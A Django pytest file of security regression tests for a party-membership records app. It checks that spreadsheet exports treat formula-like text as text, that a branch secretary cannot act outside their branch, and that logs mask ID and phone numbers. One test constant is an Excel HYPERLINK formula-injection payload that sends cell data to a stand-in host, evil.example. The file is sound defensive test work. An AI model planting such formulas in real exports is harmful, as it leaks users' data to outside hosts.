"""Security review: weaknesses found and fixed, each pinned by a test that failed before the fix."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import Activity, ActivityKind

pytestmark = pytest.mark.django_db


# --- spreadsheet exports: user text is never a formula ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_activity_title_typed_as_a_formula_is_exported_as_text(secretary, branch_a, staff_client):
    """openpyxl writes any string starting with "=" as a formula: a secretary's title would run in
    the staff member's Excel (a link that sends the sheet's data elsewhere)."""
    Activity.objects.create(
        organization=branch_a, kind=ActivityKind.THEME_DAY, date=datetime.date(2025, 3, 5), title=FORMULA
    )
    response = staff_client.get(reverse("activities:list"), {"export": "xlsx"})
    cells = [c for c in _cells(response.content) if c.value == FORMULA]
    assert cells, "the title is in the export"
    assert all(c.data_type == "s" for c in cells)


def test_a_commendation_typed_as_a_formula_is_text_in_the_report_workbook(secretary, branch_a, staff_client):
    from members.models import Commendation, CommendationKind

    Commendation.objects.create(
        kind=CommendationKind.OUTSTANDING_MEMBER,
        person_name="=1+1",
        granted_by=branch_a,
        higher_body=FORMULA,
        date=datetime.date(2025, 6, 28),
    )
    response = staff_client.get(reverse("reports:download", args=[branch_a.pk, 2025, "xlsx"]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for c in workbook["表彰"].iter_rows() for c in c if c.value in (FORMULA, "=1+1")]
    assert len(cells) == 2
    assert all(c.data_type == "s" for c in cells)


# --- inputs that choose related records: a pk outside the secretary's subtree is refused -----------


def _outside_records(branch_b):
    from tests.activities.helpers import make_member, make_prospect

    return {
        "member": make_member(branch_b, "乙局党员"),
        "prospect": make_prospect(branch_b, "乙局积极分子"),
        "activity": Activity.objects.create(
            organization=branch_b, kind=ActivityKind.THEME_DAY, date=datetime.date.today(), title="乙局活动"
        ),
    }


def test_a_secretary_cannot_record_an_activity_for_another_branch_or_its_people(
    secretary_client, branch_a, branch_b
):
    outside = _outside_records(branch_b)
    today = datetime.date.today().isoformat()
    base = {"kind": ActivityKind.THEME_DAY, "date": today, "title": "越权活动"}
    secretary_client.post(reverse("activities:create"), {**base, "organization": branch_b.pk})
    secretary_client.post(
        reverse("activities:create"),
        {**base, "organization": branch_a.pk, "attendees": [outside["member"].pk]},
    )
    secretary_client.post(
        reverse("activities:create"),
        {
            **base,
            "kind": ActivityKind.TRAINING,
            "organization": branch_a.pk,
            "trainees": [outside["prospect"].pk],
        },
    )
    assert not Activity.objects.filter(title="越权活动").exists()
    # The same form with the secretary's own branch is stored: the refusals above are about scope.
    secretary_client.post(reverse("activities:create"), {**base, "organization": branch_a.pk})
    assert Activity.objects.filter(title="越权活动", organization=branch_a).exists()


def test_a_secretary_cannot_place_people_in_another_branch(secretary_client, secretary, branch_a, branch_b):
    from members.models import Member, Prospect
    from tests.activities.helpers import make_member

    own = make_member(branch_a, "甲局党员")
    secretary_client.post(
        reverse("members:move", args=[own.pk]), {"to_organization": branch_b.pk, "date": "2025-01-02"}
    )
    secretary_client.post(
        reverse("members:create"),
        {
            "name": "越权党员",
            "gender": "M",
            "id_number": "450322197504120111",
            "organization": branch_b.pk,
            "category": "IN_SERVICE",
            "admitted_on": "2000-07-01",
            "confirmed_on": "2001-07-01",
        },
    )
    secretary_client.post(
        reverse("members:prospect_create"),
        {"name": "越权申请人", "gender": "F", "id_number": "450322199504120122", "organization": branch_b.pk},
    )
    own.refresh_from_db()
    assert own.organization == branch_a
    assert not Member.objects.filter(name="越权党员").exists()
    assert not Prospect.objects.filter(name="越权申请人").exists()


def test_a_secretary_cannot_attach_a_new_party_group_to_another_subtrees_unit(
    secretary_client, branch_a, branch_b
):
    from organizations.models import Organization
    from tests.factories import UnitFactory

    branch_b.unit = UnitFactory(name="乙局")
    branch_b.save(update_fields=["unit"])
    page = secretary_client.get(reverse("organizations:found"), {"parent": branch_a.pk})
    assert "乙局" not in [c[1] for c in page.context["form"].fields["unit"].choices]
    secretary_client.post(
        reverse("organizations:found"),
        {
            "kind": "PARTY_GROUP",
            "name": "越权党小组",
            "parent": branch_a.pk,
            "unit": branch_b.unit.pk,
            "founded_on": "2025-01-02",
        },
    )
    assert not Organization.objects.filter(name="越权党小组", unit=branch_b.unit).exists()


# --- logs: no whole ID number or phone, also not in a traceback ---------------------------------


def test_a_logged_exception_does_not_carry_a_whole_id_number(caplog):
    import logging

    from jiguan.masking import MaskPersonalDataFilter

    logger = logging.getLogger("jiguan.security-test")
    handler_stream = io.StringIO()
    handler = logging.StreamHandler(handler_stream)
    handler.addFilter(MaskPersonalDataFilter())
    logger.addHandler(handler)
    try:
        try:
            raise ValueError("重复的公民身份号码 450322197504120111，电话 13877450000")
        except ValueError:
            logger.exception("导入失败")
    finally:
        logger.removeHandler(handler)
    output = handler_stream.getvalue()
    assert "导入失败" in output and "Traceback" in output
    assert "450322197504120111" not in output
    assert "13877450000" not in output
    assert "450322********0111" in output
